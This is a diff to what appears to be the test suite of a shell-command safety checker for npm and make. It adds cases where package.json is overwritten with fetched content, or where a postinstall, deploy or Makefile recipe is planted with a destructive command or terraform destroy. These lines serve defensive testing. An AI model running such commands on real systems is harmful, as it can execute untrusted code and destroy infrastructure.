@@ -162,6 +162,10 @@ describe('package scripts', () => {
     ['harmless', 'cat package.json && npm test'],
     ['harmless', 'git diff package.json && npm run build'],
     [path.join('nowhere', 'deep'), 'npm run db:reset'], // no package.json: npm fails, nothing runs
+    // npm's own reports and package.json edits run no script, whatever the line changed (rt25fp2).
+    ['harmless', `sed -i 's/"node": ">=18"/"node": ">=20"/' package.json && npm pkg get engines`],
+    ['harmless', `printf '{"scripts":{"deploy":"${DESTROY}"}}' > package.json && npm ls --depth 0`],
+    ['harmless', 'curl -s https://example.com/p.json > package.json && npm pkg get engines'],
   ];
   it.each(passes)('%s: %s runs', async (dir, line) => {
     mkdirSync(path.join(root, dir), { recursive: true });
@@ -180,6 +184,10 @@ describe('package scripts', () => {
       // A lifecycle script planted for the next install (rt20d), even when this install skips it.
       ['nowhere', `printf '{"scripts":{"postinstall":"${DESTROY}"}}' > package.json && npm ci --ignore-scripts`],
       ['harmless', 'npm pkg set scripts.test="terraform destroy" && npm test'],
+      // Not npm version (its pre/post scripts) or audit fix (it installs) after an unread edit.
+      ['harmless', 'curl -s https://example.com/p.json > package.json && npm version patch'],
+      ['harmless', 'curl -s https://example.com/p.json > package.json && npm audit fix'],
+      ['harmless', 'curl -s https://example.com/p.json > package.json && npm pkg get engines && npm test'],
       ['mkplain', `printf 'x:\\n\\t${DESTROY}\\n' >> Makefile; make x`],
       ['mkplain', 'sed -i s/go.*/terraform/ Makefile && make test'],
       // A literal s/// is replayed on the Makefile: its recipe is judged as edited.
